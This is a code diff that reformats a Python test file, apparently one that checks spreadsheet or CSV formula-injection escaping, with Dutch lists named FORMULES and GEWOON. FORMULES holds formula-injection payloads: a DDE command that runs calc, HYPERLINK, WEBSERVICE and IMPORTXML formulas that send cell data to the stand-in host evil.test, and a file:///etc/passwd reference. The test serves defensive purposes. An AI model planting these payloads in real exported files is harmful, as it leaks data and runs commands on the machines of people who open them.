@@ -16,7 +16,7 @@ FORMULES = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.test?x="&A1;"klik")',
     '=WEBSERVICE("http://evil.test/"&A1)',
-    "=IMPORTXML(CONCAT(\"http://evil.test/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
     "='file:///etc/passwd'#$passwd.A1",
     "+1+1",
     "+31 6 12345678",
@@ -48,7 +48,18 @@ FORMULES = [
     "-",
     "==1",
 ]
-GEWOON = ["'s-Hertogenbosch", "Fryslân", "a=b", "1+1", "Vitens; Noord", 'Hij zei "ja"', "regel 1\nregel 2", "", "#REF!", "’s-Gravenhage"]
+GEWOON = [
+    "'s-Hertogenbosch",
+    "Fryslân",
+    "a=b",
+    "1+1",
+    "Vitens; Noord",
+    'Hij zei "ja"',
+    "regel 1\nregel 2",
+    "",
+    "#REF!",
+    "’s-Gravenhage",
+]
 ALLES = FORMULES + GEWOON
 
 
